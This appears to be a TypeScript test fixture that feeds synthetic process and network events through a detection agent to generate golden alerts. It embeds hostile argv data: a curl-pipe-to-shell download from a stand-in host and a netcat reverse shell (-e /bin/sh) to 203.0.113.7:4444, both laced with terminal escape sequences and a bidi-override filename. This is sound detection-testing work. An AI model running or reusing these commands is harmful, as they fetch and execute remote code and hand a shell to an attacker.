// Alerts for the `eqld alerts` golden tests, made the way the agent makes them: synthetic kernel
// events through the real Normalizer (a fake /proc with init, sshd and a login session) and the
// real Detector, which reads each alert's ancestry from the normalizer's table. The attacker's
// command lines are hostile: newlines, carriage returns, terminal escape sequences (colour,
// clear screen, window title, cursor moves), a bidi override and the U+FFFD that invalid UTF-8
// in argv decodes to. Deterministic: fixed clock, fixed event ids, fixed alert time.

import { buildTelemetryAlert } from '../../../src/agent/telemetry-alert.js';
import type { AlertRecord } from '../../../src/alerts/alert-record.js';
import { Detector } from '../../../src/alerts/detector.js';
import { normalizeTuning } from '../../../src/alerts/tuning/config.js';
import { compileQuery, createMatcher } from '../../../src/eql/index.js';
import { loadRuleText } from '../../../src/rules/load-rules.js';
import { fakeProcRoot, makeNormalizer } from '../../normalize/harness.js';
import { connect, exec, fork, setsid } from '../../support/raw-builders.js';

const RULE = (name: string, ruleId: string, severity: string, query: string) => `[metadata]
creation_date = "2026/11/25"
maturity = "production"
updated_date = "2026/11/25"

[rule]
author = ["eqld tests"]
description = "Test rule for eqld alerts."
from = "now-9m"
index = ["logs-endpoint.events.*"]
language = "eql"
license = "Apache-2.0"
name = ${JSON.stringify(name)}
risk_score = 73
rule_id = "${ruleId}"
severity = "${severity}"
type = "eql"
query = '''
${query}
'''
`;

export const SEQUENCE_RULE_ID = '00000000-0000-4000-8000-00000000a1e7';
export const EVENT_RULE_ID = '00000000-0000-4000-8000-00000000b0b0';

/** what the attacker ran: sh -c with a newline, colour, a clear screen and invalid UTF-8 */
export const HOSTILE_SH = [
  'sh',
  '-c',
  'curl -s http://x/p.sh | sh\n\u001b[31mFAKE: all clear\u001b[0m\u001b[2J \uFFFD\uFFFD',
];
/** and then: a window-title OSC, cursor moves, a carriage return and a bidi override */
export const HOSTILE_NC = [
  '/dev/shm/.x/nc',
  '\u001b]0;innocent\u0007-e',
  '/bin/sh\r\u001b[1A\u001b[2K',
  'gpj.\u202eexe',
  '203.0.113.7',
  '4444',
];

export interface Fixture {
  alerts: AlertRecord[];
  cleanup: () => void;
}

/** sshd (50, from init) → sshd: alice [priv] (90) → sshd: alice@pts/0 (95) → -bash (100, the
 *  sshd entry leader and session leader) → sh (200) → nc (300) connecting out */
export async function hostileAlerts(): Promise<Fixture> {
  const proc = fakeProcRoot([
    {
      pid: 1,
      comm: 'systemd',
      ppid: 0,
      startTicks: 1,
      exe: '/usr/lib/systemd/systemd',
      args: ['/sbin/init'],
    },
    {
      pid: 50,
      comm: 'sshd',
      ppid: 1,
      startTicks: 10,
      exe: '/usr/sbin/sshd',
      args: ['sshd: /usr/sbin/sshd -D [listener]'],
    },
    {
      pid: 90,
      comm: 'sshd',
      ppid: 50,
      sid: 90,
      startTicks: 40,
      exe: '/usr/sbin/sshd',
      args: ['sshd: alice [priv]'],
    },
    {
      pid: 95,
      comm: 'sshd',
      ppid: 90,
      sid: 90,
      startTicks: 41,
      uid: 1000,
      exe: '/usr/sbin/sshd',
      args: ['sshd: alice@pts/0'],
    },
    {
      pid: 100,
      comm: 'bash',
      ppid: 95,
      sid: 100,
      ttyNr: 136 << 8,
      startTicks: 42,
      uid: 1000,
      gid: 1000,
      exe: '/usr/bin/bash',
      cwd: '/home/alice',
      args: ['-bash'],
    },
  ]);
  const h = makeNormalizer({ procRoot: proc.root });
  await h.n.seedFromProc();
  const rules = [
    loadRuleText(
      RULE(
        'Shell Pipe Then Network Tool \u001b[32m(test)\u001b[0m',
        SEQUENCE_RULE_ID,
        'high',
        `sequence by host.id with maxspan=30s
  [process where event.action == "exec" and process.name == "sh"]
  [network where event.action == "connection_attempted" and process.name == "nc"]`,
      ),
      'rules/test-sequence.toml',
      compileQuery,
    ),
    loadRuleText(
      RULE(
        'Netcat Started',
        EVENT_RULE_ID,
        'low',
        'process where event.action == "exec" and process.name == "nc"',
      ),
      'rules/test-event.toml',
      compileQuery,
    ),
  ];
  const now = new Date('2026-11-25T16:00:05.000Z');
  const detector = new Detector(
    rules,
    normalizeTuning({ defaults: { suppression: { windowMs: 60_000, fields: ['process.name'] } } }),
    {
      createMatcher: (cq) => createMatcher(cq),
      now: () => now,
      ancestry: (id) => h.n.ancestry(id),
    },
  );
  const alerts: AlertRecord[] = [];
  h.n.onEvent((e) => alerts.push(...detector.push(e)));
  const t = (ms: number) => 1_000_000_000 + ms * 1e6;
  const alice = { uid: 1000, gid: 1000, euid: 1000, egid: 1000 };
  h.push(
    fork({ ktimeNs: t(1), parentPid: 100, parentStartTicks: 42, childPid: 200, childStartTicks: 1000 }),
    exec({
      ktimeNs: t(2),
      pid: 200,
      startTicks: 1000,
      ppid: 100,
      parentStartTicks: 42,
      filename: '/bin/sh',
      argv: HOSTILE_SH,
      ...alice,
    }),
    fork({ ktimeNs: t(3), parentPid: 200, parentStartTicks: 1000, childPid: 300, childStartTicks: 1001 }),
    exec({
      ktimeNs: t(4),
      pid: 300,
      startTicks: 1001,
      ppid: 200,
      parentStartTicks: 1000,
      filename: '/dev/shm/.x/nc',
      argv: HOSTILE_NC,
      ...alice,
    }),
    connect({ ktimeNs: t(5), pid: 300, startTicks: 1001, daddr: '203.0.113.7', dport: 4444, ...alice }),
    // a second nc a moment later: a duplicate of the event rule, held back by suppression
    fork({ ktimeNs: t(6), parentPid: 200, parentStartTicks: 1000, childPid: 301, childStartTicks: 1002 }),
    exec({
      ktimeNs: t(7),
      pid: 301,
      startTicks: 1002,
      ppid: 200,
      parentStartTicks: 1000,
      filename: '/dev/shm/.x/nc',
      argv: ['nc'],
      ...alice,
    }),
    setsid({ ktimeNs: t(8), pid: 301, startTicks: 1002 }),
  );
  const follow = detector.flush();
  const telemetry = buildTelemetryAlert(
    {
      kind: 'lost',
      count: 12,
      fromMs: Date.parse('2026-11-25T16:00:06Z'),
      toMs: Date.parse('2026-11-25T16:00:07Z'),
    },
    { name: 'testhost', hostname: 'testhost' },
    new Date('2026-11-25T16:00:07.000Z'),
  );
  return { alerts: [...alerts, ...follow, telemetry], cleanup: proc.cleanup };
}
